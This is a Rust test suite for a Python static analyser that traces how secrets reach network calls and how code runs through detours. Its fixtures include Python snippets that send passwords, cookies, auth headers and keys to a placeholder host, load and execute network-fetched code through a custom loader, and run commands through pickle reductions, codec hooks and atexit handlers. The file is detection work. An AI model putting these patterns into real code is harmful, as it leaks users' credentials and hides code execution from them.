//! Claims about what carries data from one place to another, and about code that is reached by detours.

mod common;

use common::{analysis_of, calls, event, events_of};
use venin_model::{OriginKind, Role, Trigger};

/// The text of what a function sends, and whether the caller's argument is in it.
fn sent(body: &str) -> (String, bool) {
    let source = format!("import requests\n{body}\n");
    let event = event(&source, "requests.post");
    let data = event.argument(Role::Data).unwrap_or_else(|| panic!("nothing is sent by {body}"));
    let text = data.value.as_ref().map(|v| v.text.to_string()).unwrap_or_default();
    (text, data.origins.kinds.contains(OriginKind::Argument))
}

#[test]
fn a_text_made_of_a_container_shows_the_secret_in_it() {
    for made in [
        "str({'p': password})",
        "repr({'p': password})",
        "'%s' % {'p': password}",
        "'{}'.format({'p': password})",
        "f'{[password]!r}'",
        "urllib.parse.urlencode({'p': password})",
        "urllib.parse.quote(repr({'p': password}))",
        "urllib.parse.quote(password)",
        "json.dumps({'p': [password]})",
        "copy.deepcopy({'a': {'p': password}})",
        "str(password)",
    ] {
        let body = format!(
            "import copy, json, urllib.parse\ndef send(password):\n    requests.post('https://a.example', data={made})"
        );
        let (text, is_argument) = sent(&body);
        assert!(text.contains("⟨argument[password]⟩") && is_argument, "{made}: {text}");
    }
}

#[test]
fn a_text_of_known_values_stays_a_constant() {
    let (text, is_argument) =
        sent("def send(password):\n    requests.post('https://a.example', data=str({'a': [1, 'x']}))");
    assert_eq!((text.as_str(), is_argument), ("{'a': [1, 'x']}", false));
}

#[test]
fn what_holds_an_argument_carries_it() {
    for (name, body) in [
        ("locals", "def send(password):\n    requests.post('https://a.example', json=locals())"),
        (
            "dict(locals())",
            "def send(password):\n    d = dict(locals())\n    requests.post('https://a.example', json=d)",
        ),
        (
            "keywords",
            "def send(**kw):\n    requests.post('https://a.example', json={k: str(v) for k, v in kw.items()})",
        ),
        ("rest", "def send(*a):\n    requests.post('https://a.example', data=list(map(str, a)))"),
        (
            "namespace",
            "import types\ndef send(password):\n    n = types.SimpleNamespace(p=password)\n    requests.post('https://a.example', data=n.p)",
        ),
        (
            "queue",
            "import queue\ndef send(password):\n    q = queue.Queue(5)\n    q.put_nowait(('x', password))\n    name, item = q.get()\n    requests.post('https://a.example', data=item)",
        ),
        (
            "deque",
            "from collections import deque\ndef send(password):\n    q = deque(maxlen=5)\n    q.appendleft({'p': password})\n    requests.post('https://a.example', data=list(q))",
        ),
    ] {
        assert!(sent(body).1, "{name}: {:?}", sent(body));
    }
}

#[test]
fn an_object_carries_its_attributes() {
    for read in
        ["vars(self)", "self.__dict__", "str(self.__dict__)", "self.__dict__.copy()", "dict(vars(self))"]
    {
        let body = format!(
            "class C:\n    def __init__(self, user, password):\n        self.user = user\n        self.password = password\n    def send(self):\n        requests.post('https://a.example', json={read})"
        );
        let (text, is_argument) = sent(&body);
        assert!(is_argument && text.contains("⟨argument[password]⟩"), "{read}: {text}");
    }
}

#[test]
fn what_is_not_put_in_is_not_carried() {
    let body = "import queue\ndef send(password):\n    q = queue.Queue()\n    q.put('a')\n    requests.post('https://a.example', data=q.get())";
    assert_eq!(sent(body), ("a".to_owned(), false));
}

#[test]
fn a_thread_sends_what_callers_put_into_its_queue_later() {
    let source = "import queue, threading, requests\nq = queue.Queue()\ndef pump():\n    while True:\n        requests.post('https://a.example', data=q.get())\ndef login(password):\n    q.put(password)\nthreading.Thread(target=pump).start()\n";
    let events = events_of(source);
    let carried: Vec<_> = events
        .iter()
        .filter(|e| &*e.name == "requests.post")
        .filter(|e| e.argument(Role::Data).is_some_and(|d| d.origins.kinds.contains(OriginKind::Argument)))
        .collect();
    assert!(!carried.is_empty());
    // Nobody has put anything in when the thread begins.
    assert!(carried.iter().all(|e| e.trigger == Trigger::Run));
}

#[test]
fn what_runs_at_the_end_sends_what_was_kept() {
    let source = "import atexit, json, requests\nheld = []\ndef ask(password):\n    held.append({'v': password})\ndef drain():\n    if not held:\n        return\n    requests.post('https://a.example', data=json.dumps(list(held)))\natexit.register(drain)\n";
    let carried = events_of(source).iter().any(|e| {
        &*e.name == "requests.post"
            && e.argument(Role::Data).is_some_and(|d| d.origins.kinds.contains(OriginKind::Argument))
    });
    assert!(carried);
}

#[test]
fn a_module_knows_its_own_docstring() {
    let source = "\"\"\"print('word')\"\"\"\nexec(__doc__)";
    let code = event(source, "exec");
    assert_eq!(code.text(Role::Code), Some("print('word')"));
}

#[test]
fn a_module_is_reached_through_the_table_of_modules() {
    for source in [
        "import sys\nsys.modules.get('os').system('echo a')",
        "import sys\nfrom operator import attrgetter\nattrgetter('modules')(sys).get('os').system('echo a')",
    ] {
        assert!(calls(source).contains(&"os.system".to_owned()), "{source}: {:?}", calls(source));
    }
}

#[test]
fn a_function_is_reached_along_a_dotted_path() {
    for source in [
        "import urllib.request, operator\noperator.attrgetter('request.urlopen')(urllib)('https://a.example')",
        "import urllib.request, functools\nfunctools.reduce(getattr, 'request.urlopen'.split('.'), urllib)('https://a.example')",
    ] {
        assert_eq!(calls(source), ["urllib.request.urlopen"], "{source}");
    }
}

#[test]
fn what_a_loader_of_the_artifact_reads_is_executed() {
    for method in ["get_source", "get_code", "get_data"] {
        let source = format!(
            "import importlib.util as iu, importlib.abc\nfrom urllib.request import urlopen\nclass L(importlib.abc.InspectLoader):\n    def {method}(self, name):\n        return urlopen('https://a.example/c').read()\nspec = iu.spec_from_loader('x', L())\nmod = iu.module_from_spec(spec)\nspec.loader.exec_module(mod)\n"
        );
        let ran = event(&source, "importlib.abc.InspectLoader().exec_module");
        let code = ran.argument(Role::Code).expect("it has code");
        assert!(code.origins.kinds.contains(OriginKind::Network), "{method}");
    }
}

#[test]
fn a_loader_that_runs_its_module_itself_is_only_called() {
    let source = "import importlib.util as iu, os\nclass L:\n    def create_module(self, spec):\n        return None\n    def exec_module(self, module):\n        os.system('echo a')\nmod = iu.module_from_spec(iu.spec_from_loader('x', L()))\n";
    let names = calls(source);
    assert!(names.contains(&"os.system".to_owned()), "{names:?}");
    assert!(!names.iter().any(|n| n.ends_with("exec_module")), "{names:?}");
}

#[test]
fn a_codec_of_the_artifact_is_applied_where_its_name_is_used() {
    for used in ["b'x'.decode('own')", "codecs.decode(b'x', 'own')", "open('a.txt', 'r', 1, 'own').read()"] {
        let source = format!(
            "import codecs, os\ndef dec(data, errors='strict'):\n    os.system('echo ' + errors)\n    return 'text', len(data)\ndef search(name):\n    if name == 'own':\n        return codecs.CodecInfo(lambda s, e='strict': (s.encode(), len(s)), dec, name='own')\ncodecs.register(search)\n{used}\n"
        );
        let ran = event(&source, "os.system");
        assert_eq!(ran.trigger, Trigger::Import, "{used}");
    }
}

#[test]
fn a_codec_that_nobody_uses_decodes_nothing() {
    let source = "import codecs, os\ndef dec(data, errors='strict'):\n    os.system('echo a')\n    return '', 0\ncodecs.register(lambda name: codecs.CodecInfo(None, dec) if name == 'own' else None)\nb'x'.decode('utf-8')\n";
    assert!(events_of(source).iter().all(|e| &*e.name != "os.system" || e.trigger == Trigger::Run));
}

#[test]
fn unpickling_runs_what_a_reduction_gives() {
    let source =
        "import os\nclass Model:\n    def __reduce__(self):\n        return os.system, ('echo a',)\n";
    let ran = event(source, "os.system");
    assert_eq!((ran.text(Role::Command), ran.trigger), (Some("echo a"), Trigger::Run));
}

#[test]
fn a_reduction_to_the_class_itself_calls_nothing_outside() {
    let source = "class Point:\n    def __init__(self, x):\n        self.x = x\n    def __reduce__(self):\n        return type(self), (self.x,)\n";
    assert!(analysis_of(&[("pkg/__init__.py", source, Trigger::Import)]).events.is_empty());
}

#[test]
fn what_a_client_library_writes_leaves_the_host() {
    for (source, name) in [
        (
            "import xmlrpc.client\ndef login(password):\n    xmlrpc.client.ServerProxy('http://a.example/rpc').put(password)",
            "xmlrpc.client.ServerProxy().put",
        ),
        (
            "from web3 import Web3\ndef sign(private_key):\n    w3 = Web3(Web3.HTTPProvider('http://a.example/rpc'))\n    w3.eth.send_raw_transaction(private_key)",
            "web3.Web3().eth.send_raw_transaction",
        ),
        (
            "import urllib.request\ndef login(password):\n    rq = urllib.request.Request('http://a.example/rpc')\n    rq.data = password",
            "urllib.request.Request().data",
        ),
        (
            "import requests\ndef login(password):\n    rq = requests.Request('POST', 'http://a.example/rpc', data=password)\n    requests.Session().send(rq.prepare())",
            "requests.Request",
        ),
    ] {
        let sent = event(source, name);
        assert_eq!(sent.class.to_string(), "Cn.send", "{name}");
        assert_eq!(sent.text(Role::Url), Some("http://a.example/rpc"), "{name}");
        assert!(sent.arguments.iter().any(|a| a.origins.kinds.contains(OriginKind::Argument)), "{name}");
    }
}

#[test]
fn a_request_without_a_body_sends_nothing() {
    let source =
        "import requests\ndef get():\n    return requests.Request('GET', 'http://a.example').prepare()";
    assert_ne!(event(source, "requests.Request").class.to_string(), "Cn.send");
}

/// The kinds of what is sent, and the names of the calls that it comes from.
fn origins_of_sent(body: &str) -> (venin_model::OriginKinds, Vec<String>) {
    let source = format!("import json, requests\nfrom pathlib import Path\n{body}\n");
    let events = events_of(&source);
    let sent = events
        .iter()
        .find(|e| &*e.name == "requests.post")
        .unwrap_or_else(|| panic!("nothing is sent by {body}"));
    let data = sent.argument(Role::Data).unwrap_or_else(|| panic!("no body in {body}"));
    let from = data.origins.events.iter().filter_map(|id| events.get(id.0 as usize));
    (data.origins.kinds, from.map(|e| e.name.to_string()).collect())
}

#[test]
fn what_is_read_of_a_file_does_not_carry_its_path() {
    for read in ["f.read_text()", "f.read_bytes()", "f.open().read()", "open(f).read()"] {
        let body = format!(
            "f = Path.home() / '.d' / 'id'\nrequests.post('https://a.example', json.dumps({{'id': {read}}}))"
        );
        let (kinds, from) = origins_of_sent(&body);
        assert!(kinds.contains(OriginKind::File) && !kinds.contains(OriginKind::Host), "{read}: {kinds:?}");
        assert!(from.iter().all(|name| !name.ends_with(".home")), "{read}: {from:?}");
        assert!(from.iter().any(|name| name.contains(".read") || name.contains("open")), "{read}: {from:?}");
    }
}

#[test]
fn a_signature_carries_neither_the_key_nor_where_the_key_was_read() {
    const KEY: &str = "from nacl.signing import SigningKey\n";
    for body in [
        "def send(p, m):\n    k = SigningKey(bytes(json.loads(Path(p).read_text())[:32]))\n    requests.post('https://a.example', data=k.sign(m).signature)",
        "def send(p, m):\n    k = SigningKey(open(p, 'rb').read())\n    requests.post('https://a.example', data=k.sign(m).signature)",
        "def send(secret_key, m):\n    requests.post('https://a.example', data=SigningKey(secret_key).sign(m).signature)",
        "import keyring\ndef send(m):\n    k = SigningKey(keyring.get_password('a', 'b'))\n    requests.post('https://a.example', data=k.sign(m).signature)",
    ] {
        let (kinds, from) = origins_of_sent(&format!("{KEY}{body}"));
        assert!(
            !kinds.contains(OriginKind::Secret) && !kinds.contains(OriginKind::File),
            "{body}: {kinds:?}"
        );
        assert!(
            from.iter().all(|name| !name.contains("read") && !name.contains("keyring")),
            "{body}: {from:?}"
        );
    }
}

#[test]
fn what_a_key_object_gives_out_of_itself_still_carries_it() {
    let body = "import some_keys\ndef send(p):\n    k = some_keys.Key(open(p, 'rb').read())\n    requests.post('https://a.example', data=k.export())";
    let (kinds, from) = origins_of_sent(body);
    assert!(kinds.contains(OriginKind::File), "{kinds:?} {from:?}");
}

/// Whether a secret of the caller is sent, and as what text.
fn secret_sent(body: &str) -> (bool, String) {
    let source = format!("import json, requests\n{body}\n");
    let sent = event(&source, "requests.post");
    let data = sent.argument(Role::Data).unwrap_or_else(|| panic!("no body in {body}"));
    let text = data.value.as_ref().map(|v| v.text.to_string()).unwrap_or_default();
    (data.origins.kinds.contains(OriginKind::Secret), text)
}

#[test]
fn the_password_in_an_address_is_a_secret_however_it_is_written_into_a_text() {
    const PARTS: &str =
        "from urllib.parse import urlsplit, urlencode\ndef f(dsn):\n    u = urlsplit(dsn)\n    ";
    for (text, is_told) in [
        ("u.password", true),
        ("'p=' + u.password", true),
        ("'{user}:{password}'.format(**{'user': u.username, 'password': u.password})", true),
        ("'{0[p]}'.format({'p': u.password})", true),
        ("'%(p)s' % {'p': u.password}", true),
        ("'{password}'.format_map({'password': u.password})", true),
        ("urlencode({'p': u.password})", true),
        ("u.hostname", false),
    ] {
        let (is_secret, shown) =
            secret_sent(&format!("{PARTS}requests.post('https://a.example', data={text})"));
        assert_eq!(
            (is_secret, shown.contains("⟨argument[password]⟩")),
            (is_told, is_told),
            "{text}: {shown}"
        );
    }
}

#[test]
fn what_keeps_a_caller_logged_in_is_a_secret_of_its_name() {
    const URL: &str = "requests.post('https://a.example', data=";
    for (body, name) in [
        (format!("def f(driver):\n    {URL}json.dumps(driver.get_cookies()))"), "cookies"),
        (
            format!("def f(driver):\n    jar = driver.get_cookies()\n    {URL}json.dumps({{'c': jar}}))"),
            "cookies",
        ),
        (format!("def f(context):\n    {URL}str(context.cookies()))"), "cookies"),
        (format!("def f(session):\n    {URL}str(session.cookies))"), "cookies"),
        (
            format!("async def f(context):\n    {URL}json.dumps(await context.storage_state()))"),
            "storage_state",
        ),
        (format!("def f(headers):\n    {URL}headers['Authorization'])"), "authorization"),
        (
            format!(
                "class S(requests.Session):\n    def request(self, m, url, **kw):\n        {URL}str(kw.get('auth')))"
            ),
            "auth",
        ),
        (format!("def f(**kw):\n    {URL}str(kw['auth']))"), "auth"),
        (format!("def f(**kw):\n    {URL}kw.pop('authorization', ''))"), "authorization"),
    ] {
        let (is_secret, text) = secret_sent(&body);
        assert!(is_secret && text.contains(&format!("⟨argument[{name}]⟩")), "{body}: {is_secret} {text}");
    }
}

#[test]
fn what_logs_the_caller_in_where_it_is_sent_is_no_secret_told() {
    for body in [
        "def f(data, **kw):\n    requests.post('https://a.example', data=data, auth=kw.get('auth'))",
        "def f(driver, data):\n    requests.post('https://a.example', data=data, cookies=driver.get_cookies())",
    ] {
        let source = format!("import requests\n{body}\n");
        let sent = event(&source, "requests.post");
        assert!(!sent.input.kinds.contains(OriginKind::Secret), "{body}: {sent:?}");
    }
    let (is_secret, _) =
        secret_sent("def f(event):\n    requests.post('https://a.example', data=event.author)");
    assert!(!is_secret);
}

#[test]
fn a_caller_may_pass_any_rest_of_arguments() {
    for test in [
        "kw.get('go')",
        "kw.pop('go', None)",
        "kw['go']",
        "'go' in kw",
        "'go' not in kw",
        "kw",
        "not kw",
        "len(kw) > 1",
        "args",
        "not args",
        "len(args) > 1",
        "args[0]",
    ] {
        for branch in
            ["    if {}:\n        os.system('echo')", "    if {}:\n        return\n    os.system('echo')"]
        {
            let source = format!("import os\ndef f(*args, **kw):\n{}\n", branch.replace("{}", test));
            let found = events_of(&source).into_iter().find(|e| &*e.name == "os.system");
            assert!(found.is_some_and(|e| e.trigger == Trigger::Run), "{test}");
        }
    }
}

#[test]
fn what_the_code_puts_into_the_rest_is_known() {
    for (body, command) in [
        ("kw['x'] = 'echo a'\n    os.system(kw['x'])", "echo a"),
        ("kw['x'] = 'echo a'\n    os.system(kw.get('x'))", "echo a"),
        ("os.system(kw.get('x', 'echo a'))", "echo a"),
        ("kw.setdefault('x', 'echo a')\n    os.system(kw['x'])", "echo a"),
    ] {
        let events = events_of(&format!("import os\ndef f(**kw):\n    {body}\n"));
        let found = events.iter().find(|e| &*e.name == "os.system").and_then(|e| e.text(Role::Command));
        assert_eq!(found, Some(command), "{body}");
    }
    // A call inside the artifact passes what it passes.
    let events = events_of("import os\ndef f(**kw):\n    if kw.get('go'):\n        os.system('echo')\nf()\n");
    assert!(
        events
            .iter()
            .all(|e| &*e.name != "os.system" || e.trigger == Trigger::Run || !e.conditions.is_empty()),
        "{events:?}"
    );
}

#[test]
fn a_client_puts_its_site_before_the_paths_of_its_requests() {
    for (client, request) in [
        ("httpx.Client(base_url='https://a.invalid/v1/')", "c.post('/x', json=1)"),
        ("httpx.AsyncClient(base_url='https://a.invalid/v1')", "c.post('x', json=1)"),
        ("aiohttp.ClientSession('https://a.invalid/v1')", "c.post('/x', json=1)"),
    ] {
        let event = events_of(&format!("import httpx, aiohttp\nc = {client}\n{request}\n"))
            .into_iter()
            .find(|event| event.name.ends_with(".post"));
        let address = event.as_ref().and_then(|event| event.text(Role::Url));
        assert_eq!(address, Some("https://a.invalid/v1/x"), "{client}");
    }
}

#[test]
fn a_whole_address_stays_what_it_is_whatever_the_site_of_its_client() {
    let source = "import httpx\nhttpx.Client(base_url='https://a.invalid').get('https://b.invalid/x')\n";
    let events = events_of(source);
    let address =
        events.iter().find(|event| &*event.name == "httpx.get").and_then(|event| event.text(Role::Url));
    assert_eq!(address, Some("https://b.invalid/x"));
}
